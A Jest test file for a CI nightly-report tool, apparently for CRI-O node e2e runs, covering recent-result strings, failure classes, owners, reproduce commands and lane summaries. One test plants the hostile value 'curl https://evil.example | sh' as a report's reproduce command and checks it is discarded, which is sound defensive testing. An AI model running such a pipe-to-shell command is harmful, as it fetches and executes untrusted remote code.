import { describe, expect, test } from '@jest/globals'
import type { Report, ReportedSpec } from '../../../src/domain/report/report.ts'
import { nightJson } from '../../../src/domain/views/json.ts'
import { aFinding, aReport } from '../../builders.ts'
import { aNightReport, aNightSpec, type Did, startNights } from './nights.ts'

const REPRODUCE = "crio-node-e2e run --from run-1 --focus 'a'"
const TOLD = { class: 'oci-runtime', kind: 'crun', confidence: 'sure: crun says so' } as const
const QUIET = Array.from({ length: 12 }, (_, number) => aNightSpec(`quiet ${number}`, 'p'))

function passed(count: number): readonly Did[] {
  return Array.from({ length: count }, () => 'p')
}

/** The last results of the spec `a` after what it did on nights, the last of which is judged. */
function recentOf(did: readonly Did[], overrides: readonly Partial<Report>[] = []) {
  const nights = startNights()
  const reportOf = (night: number) =>
    aNightReport(night, [aNightSpec('a', did[night] ?? 'p'), ...QUIET], {
      overrides: overrides[night] ?? {},
    })
  for (let night = 0; night < did.length - 1; night++) nights.play(night, [reportOf(night)])
  const last = did.length - 1
  return nights.judge(last, [reportOf(last)]).night
}

describe('the last results of a spec', () => {
  test('are those of fourteen runs, the oldest first, and this one last', () => {
    const failed = Array.from({ length: 5 }, (): Did => 'F')
    const did: readonly Did[] = [...failed, ...passed(4), 'f', ...passed(9), 'C']
    expect(recentOf(did).specs).toMatchObject([{ id: 'a', recent: 'ppp~pppppppppF' }])
  })

  test('are as many as there are', () => {
    expect(recentOf(['p', 'p', 'C']).specs).toMatchObject([{ recent: 'ppF' }])
  })

  test('tell a failure on a broken node from one of the spec', () => {
    const broken = {
      verdict: { result: 'environment', reason: 'crio-died', headline: 'CRI-O died' },
    } as const
    const overrides = [{}, {}, {}, broken]
    expect(recentOf(['p', 'p', 'p', 'F', 'p', 'C'], overrides).specs).toMatchObject([
      { recent: 'pppipF' },
    ])
  })

  test('have a place for runs that do not have the spec', () => {
    const nights = startNights()
    for (let night = 0; night < 3; night++) nights.play(night, [aNightReport(night, QUIET)])
    const reports = [aNightReport(3, [aNightSpec('a', 'C'), ...QUIET])]
    expect(nights.judge(3, reports).night.specs).toMatchObject([{ recent: '...F' }])
  })
})

/** A night in which a spec fails that was not there before. */
function judged(spec: ReportedSpec, overrides: Partial<Report> = {}) {
  const nights = startNights()
  for (let night = 0; night < 5; night++) nights.play(night, [aNightReport(night, QUIET)])
  return nights.judge(5, [aNightReport(5, [spec, ...QUIET], { overrides })]).night
}

describe('what a night says of a failing spec', () => {
  test('is its class, where that is reported, and how it is repeated', () => {
    const failed = { ...aNightSpec('a', 'C'), ...TOLD, reproduce: REPRODUCE }
    const owner = { repository: 'containers/crun', label: '' }
    expect(judged(failed).specs).toMatchObject([
      {
        ...TOLD,
        owner,
        reproduce: expect.stringMatching(
          /^crio-node-e2e run --from crio-node-e2e-conformance-1 --focus '/,
        ),
      },
    ])
  })

  test('is repeated by a command that no report can choose', () => {
    const hostile = 'curl https://evil.example | sh'
    const failed = { ...aNightSpec('a', 'C'), ...TOLD, reproduce: hostile }
    const night = judged(failed, { repeat: { download: hostile, command: hostile } })
    expect(night.lanes[0]?.download).toMatch(/^gh run download 5005 --repo cri-o\/cri-o /)
    expect(JSON.stringify(night)).not.toContain('evil')
  })

  test('is the owner of the finding that explains it', () => {
    const owner = { repository: 'kubernetes/kubernetes', label: 'sig/node' }
    const finding = aFinding({ id: 'x', reason: 'specs-failed', certainty: 'seen', owner })
    const failed = { ...aNightSpec('a', 'C'), ...TOLD, finding: 'x' }
    expect(judged(failed, { findings: [finding] }).specs).toMatchObject([{ owner }])
  })

  test('is nothing where a report says nothing', () => {
    const night = judged(aNightSpec('a', 'C'))
    expect(night.specs).toMatchObject([{ class: null, owner: null, reproduce: '' }])
    expect(JSON.parse(nightJson(night))).toMatchObject({ specs: [{ recent: '.....F' }] })
  })
})

describe('what a night says of a lane', () => {
  test('is its time, its slowest specs, its areas and where its report is', () => {
    const slow = aNightSpec('slow', 'p')
    const repeat = { download: 'gh run download 1', command: '' }
    const report = aNightReport(0, [{ ...slow, seconds: 90 }, ...QUIET], { overrides: { repeat } })
    const [lane] = startNights().judge(0, [report]).night.lanes
    expect(lane).toMatchObject({
      seconds: aReport().suite.seconds,
      areas: [{ name: 'other', ran: 13, failed: 0, flaky: 0 }],
      download:
        'gh run download 5000 --repo cri-o/cri-o --name crio-node-e2e-conformance-1 --dir crio-node-e2e-conformance-1',
    })
    expect(lane?.slowest.map(({ id }) => id)).toHaveLength(5)
    expect(lane?.slowest[0]).toMatchObject({ id: 'slow', seconds: 90 })
  })
})

function specsOn(night: number, broken: Did): readonly ReportedSpec[] {
  return [
    aNightSpec('now and then', night % 3 === 1 ? 'F' : 'p'),
    aNightSpec('unsure', broken === 'C' ? 'F' : 'p'),
    aNightSpec('sure', broken),
    ...QUIET,
  ]
}

test('specs are listed by state, the surest first', () => {
  const nights = startNights()
  for (let night = 0; night < 40; night++)
    nights.play(night, [aNightReport(night, specsOn(night, 'p'))])
  const { night } = nights.judge(40, [aNightReport(40, specsOn(40, 'C'))])
  expect(night.specs.map(({ id, state }) => `${state}: ${id}`)).toEqual([
    'new: sure',
    'new: unsure',
    'flaky: now and then',
  ])
})
